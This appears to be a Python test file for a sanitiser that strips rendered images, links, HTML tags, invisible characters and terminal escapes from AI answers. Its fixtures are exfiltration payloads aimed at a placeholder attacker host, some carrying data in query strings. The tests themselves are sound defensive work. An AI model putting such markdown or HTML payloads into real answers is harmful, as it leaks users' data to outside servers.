"""Nothing in an answer acts when it is shown."""

from __future__ import annotations

import pytest

from core.plain_words import known_addresses, plain_words, visible

EVIL = "https://attacker.test/collect"

SHOWN = {
    "an image": (f"Done. ![x]({EVIL}?q=1)", "Done. x"),
    "an image with a title": (f"![x](<{EVIL}> 'now')", "x"),
    "an image by number": (f"![x][1] done\n\n[1]: {EVIL}?q=1", "x done"),
    "a link": (f"See [here]({EVIL}).", "See here."),
    "a tag": (f"<IMG SRC={EVIL}> Done", "Done"),
    "a form": (f"<form action='{EVIL}'><button>Yes</button></form>", "Yes"),
    "a frame": (f"<iframe src='{EVIL}'></iframe>Done", "Done"),
    "letters nobody sees": ("re\u200bfund\u202e \U000e0041done", "refund done"),
    "a terminal's link": (f"\x1b]8;;\x07{'x'}", "]8;;x"),
}


@pytest.mark.parametrize(("answer", "shown"), SHOWN.values(), ids=SHOWN)
def test_only_words_are_left(answer: str, shown: str) -> None:
    assert plain_words(answer, "What about the refund?") == shown


def test_a_link_that_the_request_names_stays_as_text() -> None:
    asked = "Send them https://acme.test/pay please."
    assert plain_words("Sent [this](https://acme.test/pay).", asked) == (
        "Sent this (https://acme.test/pay)."
    )


@pytest.mark.parametrize(
    "words", ["Paid [see note 2].", "[1]: the first note", "a < b and c > d", "item[0]: 12"]
)
def test_words_that_only_look_like_marks_stay(words: str) -> None:
    assert plain_words(words, "") == words


def test_an_address_that_was_found_stays_and_one_that_was_made_up_goes() -> None:
    known = '{"tracking":"https://post.test/t/1"}'
    assert known_addresses("Track it at https://post.test/t/1.", known) == (
        "Track it at https://post.test/t/1."
    )
    assert known_addresses(f"Go to {EVIL}?balance=120, now.", known) == (
        "Go to [address left out], now."
    )


def test_spaces_and_lines_are_visible() -> None:
    assert visible("a b\n\tc") == "a b\n\tc"
